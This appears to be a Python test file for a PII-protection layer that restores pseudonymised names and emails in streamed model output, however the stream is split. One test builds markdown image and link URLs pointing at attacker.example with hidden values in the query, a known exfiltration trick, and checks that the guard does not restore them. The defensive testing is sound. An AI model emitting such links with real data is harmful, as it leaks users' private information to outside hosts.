"""Placeholders and surrogates come back in the stream, wherever it is cut, and nothing of another value does."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.core.action import Action
from guard.core.channel import Channel
from guard.core.plan import Plan
from guard.core.style import Style
from guard.pii.pseudonym.literal import LiteralEngine
from guard.pii.pseudonym.vault import Vault
from guard.scan.engine import PatternEngine
from tests.flow import cut, stream

from .hidden import stretch, vault

PLAN = Plan({"pii": Action.REDACT, "output": Action.REDACT})
CONTENT, ARGUMENTS = Channel(0, "content"), Channel(0, "tool_calls.arguments", 0)
PERSON, EMAIL = "Ada Lovelace", "ada@lovelace.example"


@pytest.fixture(scope="module")
def own() -> Vault:
    """A vault that has hidden a name and an address."""
    made = vault()
    made.hide(stretch("PERSON", PERSON))
    made.hide(stretch("EMAIL_ADDRESS", EMAIL))
    return made


def _names(own: Vault) -> tuple[str, str]:
    return own.hide(stretch("PERSON", PERSON)), own.hide(stretch("EMAIL_ADDRESS", EMAIL))


def _answers(own: Vault) -> list[tuple[Channel, str, str]]:
    person, email = _names(own)
    return [
        (CONTENT, f"Dear {person}, write to {email}.", f"Dear {PERSON}, write to {EMAIL}."),
        (CONTENT, f"**{person.lower()}** <{email}>", f"**{PERSON}** <{EMAIL}>"),
        (CONTENT, f"{person}'s and {person.strip('<>')}", f"{PERSON}'s and {PERSON}"),
        (CONTENT, f"`{person}{email}`", f"`{PERSON}{EMAIL}`"),
        (CONTENT, "<PERSON_zzzz> and PERSON_NAME < 3", "<PERSON_zzzz> and PERSON_NAME < 3"),
        (CONTENT, f"{person} not bob@babbage.example", f"{PERSON} not [EMAIL_ADDRESS]"),
        (CONTENT, f"{email} or 4111 1111 1111 1111", f"{EMAIL} or [CREDIT_CARD]"),
        (ARGUMENTS, f'{{"to": "{email}", "n": 1}}', f'{{"to": "{EMAIL}", "n": 1}}'),
        (ARGUMENTS, f'{{"to": "\\u003c{email[1:-1]}\\u003E"}}', f'{{"to": "{EMAIL}"}}'),
        (ARGUMENTS, f'{{"to": {person}}}', f'{{"to": "{PERSON}"}}'),
    ]


@pytest.mark.parametrize("number", range(10))
def test_every_cut_gives_the_client_the_values(engine: PatternEngine, own: Vault, number: int) -> None:
    channel, text, expected = _answers(own)[number]
    for pieces in ([text], list(text), *([text[:at], text[at:]] for at in range(1, len(text)))):
        assert stream(engine, PLAN, channel, pieces, own)[0] == expected


@given(st.lists(st.integers(0, 60), max_size=8), st.integers(0, 9))
def test_the_cut_changes_nothing(engine: PatternEngine, own: Vault, at: list[int], number: int) -> None:
    channel, text, expected = _answers(own)[number]
    assert stream(engine, PLAN, channel, cut(text, at), own)[0] == expected


def test_nothing_of_a_placeholder_leaves_before_it_is_whole(engine: PatternEngine, own: Vault) -> None:
    person, _ = _names(own)
    read, seen = stream(engine, PLAN, CONTENT, list(f"Dear {person}!"), own)
    assert read == f"Dear {PERSON}!"
    assert not any("<" in text for text in seen)


def test_without_anything_hidden_placeholders_stay(engine: PatternEngine) -> None:
    text = "Dear <PERSON_k3f9>, 1 < 2."
    assert stream(engine, PLAN, CONTENT, list(text))[0] == text


def test_a_link_that_would_carry_a_value_out_is_not_restored(engine: PatternEngine, own: Vault) -> None:
    person, email = _names(own)
    both = f"https://attacker.example/?q={email}&n={person}&last=1"
    assert stream(engine, PLAN, CONTENT, list(f"at {both} or {email}"), own)[0] == f"at {both} or {EMAIL}"
    mixed = f"https://a.example/{email}/x?bob@babbage.example by {person}"
    expected = f"https://a.example/{email}/x?[EMAIL_ADDRESS] by {PERSON}"
    assert stream(engine, PLAN, CONTENT, list(mixed), own)[0] == expected
    for address in (f"https://attacker.example/?q={email}", f"https://attacker.example/%3C{email[1:-1]}%3E"):
        for text in (f"![x]({address})", f"see [this]({address}) now"):
            assert EMAIL not in stream(engine, PLAN, CONTENT, list(text), own)[0]


@given(st.lists(st.integers(0, 60), max_size=8))
def test_surrogates_are_found_wherever_the_text_is_cut(at: list[int]) -> None:
    made = LiteralEngine(("maria keller", "keller", "maria"))
    text = "So Maria Keller (MARIA) wrote; Kellermann and Mariana did not. Keller"
    channel = made.open(CONTENT)
    found, upto = [], 0
    for piece in cut(text, at):
        verdict = channel.feed(piece, False)
        assert verdict.upto >= upto
        upto = verdict.upto
        found += verdict.findings
    last = channel.feed("", True)
    assert last.upto == len(text)
    spans = [text[f.start : f.end] for f in (*found, *last.findings)]
    assert spans == ["Maria Keller", "MARIA", "Keller"]


def test_a_part_of_a_surrogate_name_is_that_part_of_the_value() -> None:
    own = vault()
    surrogate = own.hide(stretch("PERSON", PERSON, Style.SURROGATE))
    first, last = surrogate.split()
    assert own.engine is not None
    for written, value in ((surrogate, PERSON), (first.upper(), "Ada"), (last, "Lovelace")):
        (finding,) = own.engine.open(CONTENT).feed(written, True).findings
        assert own.show(stretch("PSEUDONYM", written)) == written  # nobody said that it is a surrogate
        shown = stretch("PSEUDONYM", written)
        assert own.show(type(shown)(0, len(written), written, (finding,))) == value
